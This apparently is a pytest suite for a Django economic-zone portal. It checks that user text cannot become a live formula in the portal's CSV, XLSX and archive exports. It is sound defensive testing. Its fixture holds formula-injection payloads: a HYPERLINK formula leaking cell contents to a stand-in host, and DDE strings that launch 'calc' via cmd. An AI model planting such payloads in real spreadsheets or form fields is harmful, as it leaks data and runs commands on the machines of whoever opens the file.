"""Nothing that somebody typed runs as a formula in any file the portal writes."""

import csv
import io
import zipfile

import pytest

from sezportal import archive
from sezportal.reference_data import TABLES
from sezportal.workbooks.writing import workbook
from zones.cells import program_text, without_guard
from zones.importing.columns import clean_text
from zones.models import Zone

pytestmark = pytest.mark.django_db
SAID = '=HYPERLINK("https://elsewhere.example/"&A1,"free land")'


@pytest.fixture
def hostile(zone):
    """A zone whose texts would run."""
    zone.name_en = SAID
    zone.address = "@SUM(1+1)*cmd|' /C calc'!A0"
    zone.operator = "+1+cmd|' /C calc'!A0"
    zone.save()
    return zone


def runs(text):
    return text.startswith(("=", "@", "\t", "\r")) or (text.startswith(("+", "-")) and "!" in text)


def formulas_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as made:
        sheets = [made.read(name) for name in made.namelist() if "worksheets/sheet" in name]
    return sum(sheet.count(b"<f>") + sheet.count(b"<f ") for sheet in sheets)


@pytest.mark.parametrize(
    "address",
    [
        "/zones/zones.csv",
        "/data/zones.csv",
        "/api/v1/zones/?format=csv&search=HYPERLINK",
        "/zones/compare/?zone=la-savan-seno&zone=la-boten&format=csv",
    ],
)
def test_no_cell_of_a_csv_file_runs(hostile, client, address):
    response = client.get(address)
    content = b"".join(response) if response.streaming else response.content
    cells = [cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in line]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if runs(cell)] == []


@pytest.mark.parametrize(
    "address",
    ["/zones/zones.xlsx", "/zones/compare/?zone=la-savan-seno&zone=la-boten&format=xlsx"],
)
def test_no_cell_of_a_workbook_is_a_formula(hostile, client, address):
    content = client.get(address).content
    assert formulas_of(content) == 0


def test_the_workbook_to_fill_has_no_formula_and_keeps_the_text(hostile):
    assert formulas_of(workbook([hostile])) == 0


def test_the_archive_guards_what_would_run_and_the_loader_takes_the_guard_away(hostile):
    table = next(table for table in TABLES if table.name == "zones")
    rows = list(csv.DictReader(io.StringIO(archive.table_csv(table).decode())))
    row = next(row for row in rows if row["slug"] == hostile.slug)
    assert not any(runs(cell) for row in rows for cell in row.values())
    assert clean_text(row["name_en"]) == SAID
    assert clean_text(row["operator"]) == Zone.objects.get(pk=hostile.pk).operator


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("+856 21 265 397 (Vientiane branch)", "+856 21 265 397 (Vientiane branch)"),
        ("-12.5", "-12.5"),
        ("=1+1", "'=1+1"),
        ("+cmd|x!A1", "'+cmd|x!A1"),
        ("-SUM(A1)", "'-SUM(A1)"),
        ("@x", "'@x"),
        ("'quoted'", "'quoted'"),
    ],
)
def test_numbers_with_a_sign_stay_and_formulas_are_guarded(text, written):
    assert program_text(text) == written
    assert without_guard(written) == text
